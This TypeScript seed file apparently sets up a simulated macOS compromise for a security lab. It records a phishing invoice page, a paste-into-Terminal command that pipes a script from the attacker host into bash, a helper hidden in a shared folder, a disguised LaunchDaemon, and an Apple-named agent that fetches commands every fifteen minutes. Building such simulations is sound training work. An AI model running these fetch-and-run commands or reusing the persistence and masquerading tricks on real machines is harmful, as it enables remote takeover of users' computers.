import { ATTACKER } from '../../windows/seed/profiles.ts'

/**
 * What happened on the Mac: two days before the lab was created its user got the invoice that the finance department got too. The page said
 * that a line has to be typed into the Terminal to see it. That line brought a helper, which asked for the password and starts with the Mac
 * since, and an agent that fetches what to do next every quarter of an hour.
 */

export { ATTACKER }
export const PAGE_URL = 'https://files.secure-invoices.example/d/8841/viewer'
export const DOWNLOAD_URL = 'https://files.secure-invoices.example/d/8841/InvoiceViewer.dmg'
export const DOWNLOAD = 'InvoiceViewer.dmg'
export const TYPED = `curl -fsSL http://${ATTACKER}/viewer.sh | bash`

/** The helper, hidden in a folder that everybody may write to, and what starts it. */
export const HELPER = '/Users/Shared/.acc/CCHelper'
export const DAEMON = { label: 'com.adobe.acc.helper', path: '/Library/LaunchDaemons/com.adobe.acc.helper.plist' }
/** The agent has a name as if it were Apple's. */
export const AGENT = { label: 'com.apple.softwareupdate.check', command: `curl -fsSL http://${ATTACKER}/u | bash` }
/** Ports and pids that several parts of the seed name. */
export const HELPER_PID = 4127
export const AGENT_PID = 4688
